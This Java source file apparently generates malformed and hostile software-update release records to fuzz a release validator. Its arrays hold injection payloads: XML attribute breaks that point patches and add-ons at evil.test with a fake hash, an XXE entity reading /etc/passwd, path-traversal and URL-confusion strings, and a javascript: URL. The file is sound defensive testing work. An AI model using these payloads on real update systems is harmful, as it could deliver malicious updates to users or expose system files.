// SPDX-License-Identifier: MPL-2.0
package dev.balrog.core.release.validation;

import dev.balrog.core.fixture.Choice;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.Consumer;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Releases that somebody has made to harm clients: sound ones of each format with a few values or names replaced by what
 * suits an attack on their place.
 */
final class HostileReleases {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final String HASH = "0123456789abcdef".repeat(8);

    private static final String[] MARKUP = {
        "\"",
        "<",
        ">",
        "&",
        "'",
        "&amp;",
        "&lt;",
        "&#0;",
        "&#1;",
        "&#x22;",
        "&evil;",
        "]]>",
        "<!--",
        "-->",
        "<![CDATA[",
        "<?x ?>",
        "\"/><patch type=\"complete\" URL=\"https://evil.test/pwn.mar\" hashFunction=\"sha512\" hashValue=\"" + HASH
                + "\" size=\"1",
        "\" URL=\"https://evil.test/pwn.mar",
        "\" actions=\"silent\" openURL=\"https://evil.test/",
        "\"></update><update type=\"major\" appVersion=\"999.0\" x=\"",
        "\"/><addon id=\"evil\" URL=\"https://evil.test/e.xpi\" hashFunction=\"sha512\" hashValue=\"" + HASH
                + "\" size=\"1\" version=\"9",
        "</updates><evil/>",
        "<!DOCTYPE x [<!ENTITY evil SYSTEM \"file:///etc/passwd\">]>"
    };
    private static final String[] CHARACTERS = {
        "\u0000",
        "\u0001",
        "\b",
        "\t",
        "\n",
        "\r",
        "\u001f",
        "\u007f",
        "\u0085",
        "\u2028",
        "\ufffe",
        "\uffff",
        "\ud800",
        "\udc00",
        "\udc00\ud800",
        "\ud83d\ude00",
        "\ufeff",
        "\u202e",
        "\u00e9",
        " ",
        "\u00a0"
    };
    private static final String[] URL_PIECES = {
        "https",
        "http",
        "ftp",
        "javascript",
        "file",
        "HTTP",
        ":",
        "://",
        "//",
        "/",
        "/",
        "\\",
        "cdn.example",
        "cdn.example",
        "paths.example",
        "paths.example/ok/",
        "evil.test",
        "CDN.example",
        "cdn.example.evil.test",
        "@",
        "user:pw@",
        ":80",
        ":x",
        "..",
        ".",
        "%2e%2e",
        "%2E.",
        "..%2f",
        "%2f",
        "%5c",
        "%252e%252e",
        "%c0%ae",
        "%00",
        "%0a",
        "%",
        "%u002e",
        ";",
        "..;",
        "?",
        "#",
        "%LOCALE%",
        "%OS_FTP%",
        "%FILENAME%",
        "%PRODUCT%",
        "%OS_BOUNCER%",
        "%locale%",
        "%VERSION%",
        "a",
        ".mar",
        "&",
        "&amp;",
        "\u00fc",
        "[::1]",
        "127.0.0.1",
        "cdn.example.",
        "cdn\u3002example",
        "ok"
    };
    private static final String[] URLS = {
        "https://cdn.example/a.mar",
        "https://cdn.example/%LOCALE%/%OS_FTP%/%FILENAME%",
        "https://cdn.example/?product=%PRODUCT%&os=%OS_BOUNCER%&lang=%LOCALE%",
        "https://paths.example/ok/a.mar",
        "https://paths.example/ok/%LOCALE%/a.mar",
        "https://paths.example/ok/../evil.mar",
        "https://paths.example/ok/%OS_FTP%/a.mar",
        "https://paths.example/%OS_FTP%/a.mar",
        "https://paths.example/other/a.mar",
        "https://cdn.example@evil.test/a.mar",
        "https://evil.test/a.mar",
        "https://evil.test\\@cdn.example/",
        "https:evil.test/://cdn.example/",
        "https://cdn.example%OS_FTP%/a.mar",
        "https://%OS_FTP%/a.mar",
        "%OS_FTP%://cdn.example/",
        "javascript://cdn.example/%0aalert(1)",
        ""
    };
    private static final String[] SEGMENTS = {
        "..", ".", "../..", "%2e%2e", "@evil.test/", "evil.test", "a/../../b", "\\..", "x", "?", "#", ""
    };
    private static final String[] VERSIONS = {
        "61.0", "61.*", "61", "999.0.0.0", "1.21.15b", "140.0esr", "2.x", "", "-1", "2.1b3", "60.0a1\n"
    };
    private static final String[] HASHES = {
        "", "abc", HASH, HASH.toUpperCase(Locale.ROOT), HASH + "0", HASH.substring(64), "g".repeat(128)
    };
    private static final String[] FUNCTIONS = {
        "sha512", "SHA512", "sha384", "sha256", "sha1", "md5", "crc32", "", "sha-512"
    };

    private final Choice choice;

    HostileReleases(Choice choice) {
        this.choice = choice;
    }

    /** Place of a value that can be replaced: its name, and what replaces it. */
    private record Spot(String key, JsonNode value, Consumer<JsonNode> replace, Runnable remove) {}

    /** Returns a release of a format, with one to four things changed. */
    ObjectNode next(int schemaVersion) {
        ObjectNode release = FullReleases.of(schemaVersion);
        for (int i = 1 + choice.below(4); i > 0; i--) {
            if (choice.percent(25)) {
                rename(release);
            } else {
                replaceValue(release);
            }
        }
        release.put("schema_version", schemaVersion);
        return release;
    }

    private void replaceValue(ObjectNode release) {
        List<Spot> spots = new ArrayList<>();
        collect(release, spots);
        Spot spot = choice.of(spots);
        if (choice.percent(8)) {
            spot.remove.run();
        } else {
            spot.replace.accept(choice.percent(8) ? other() : fitting(spot));
        }
    }

    private static void collect(JsonNode node, List<Spot> spots) {
        if (node instanceof ObjectNode object) {
            for (String name : List.copyOf(object.propertyNames())) {
                JsonNode value = object.get(name);
                spots.add(new Spot(name, value, changed -> object.set(name, changed), () -> object.remove(name)));
                collect(value, spots);
            }
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                int index = i;
                spots.add(new Spot("", array.get(i), changed -> array.set(index, changed), () -> array.remove(index)));
                collect(array.get(i), spots);
            }
        }
    }

    /** Returns what could do harm in the place of a value. */
    private JsonNode fitting(Spot spot) {
        if (choice.percent(30)) {
            return JSON.stringNode(choice.percent(50) ? spliced(spot.value.asString("")) : markup());
        }
        String key = spot.key;
        String text = spot.value.asString("");
        if (text.startsWith("http") || key.equals("fileUrl")) {
            return JSON.stringNode(url());
        }
        return switch (key) {
            case "hashValue" -> JSON.stringNode(choice.of(HASHES));
            case "hashFunction" -> JSON.stringNode(choice.of(FUNCTIONS));
            case "filesize" ->
                choice.of(
                        JSON.numberNode(0),
                        JSON.numberNode(-1),
                        JSON.numberNode(1.5),
                        JSON.numberNode(new BigDecimal("1e400")),
                        JSON.numberNode(Double.POSITIVE_INFINITY),
                        JSON.stringNode("0"),
                        JSON.stringNode("007"),
                        JSON.stringNode("5\n"));
            case "appVersion", "extv", "appv", "version", "platformVersion", "displayVersion" ->
                JSON.stringNode(choice.of(VERSIONS));
            case "OS_FTP", "OS_BOUNCER", "ftpFilenames", "bouncerProducts", "partial", "complete", "*", "x" ->
                spot.value.isString() ? JSON.stringNode(choice.of(SEGMENTS)) : other();
            default -> spot.value.isContainer() && choice.percent(80) ? spot.value : JSON.stringNode(spliced(text));
        };
    }

    private JsonNode other() {
        return choice.of(
                JSON.nullNode(),
                JSON.booleanNode(true),
                JSON.numberNode(choice.below(10) - 5),
                JSON.objectNode(),
                JSON.arrayNode().add("x").addNull(),
                JSON.objectNode().put("alias", "p"),
                JSON.stringNode(""));
    }

    private String url() {
        if (choice.percent(50)) {
            return choice.percent(70) ? choice.of(URLS) : spliced(choice.of(URLS));
        }
        StringBuilder url =
                new StringBuilder(choice.of("https://cdn.example/", "https://paths.example/ok/", "https://", ""));
        for (int i = choice.below(6); i > 0; i--) {
            url.append(choice.of(URL_PIECES));
        }
        return url.toString();
    }

    private String markup() {
        return choice.percent(60) ? choice.of(MARKUP) : choice.of(CHARACTERS);
    }

    /** Returns a string with something put in. */
    private String spliced(String text) {
        int at = choice.below(text.length() + 1);
        return text.substring(0, at) + (choice.percent(75) ? markup() : choice.of(SEGMENTS)) + text.substring(at);
    }

    /** Gives some member of some object another name. */
    private void rename(ObjectNode release) {
        List<ObjectNode> objects = new ArrayList<>();
        collectObjects(release, objects);
        ObjectNode object = choice.of(objects);
        if (object.isEmpty()) {
            return;
        }
        String name = choice.of(List.copyOf(object.propertyNames()));
        String other =
                choice.percent(70) ? spliced(name) : choice.of("default", "*", "alias", "q", "de", "p", "c", "locales");
        object.set(other, choice.percent(50) ? object.get(name) : object.remove(name));
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> objects) {
        if (node instanceof ObjectNode object) {
            objects.add(object);
        }
        node.forEach(child -> collectObjects(child, objects));
    }

    /** Returns a string that a client may send as its locale, version or system. */
    String requested(String usual) {
        return choice.percent(85) ? usual : choice.percent(50) ? spliced(usual) : choice.of(SEGMENTS);
    }

    /** Returns a release that has passed through the storage: numbers and strings as they are read back. */
    static JsonNode stored(JsonMapper mapper, ObjectNode release) {
        return mapper.readTree(mapper.writeValueAsString(release));
    }
}
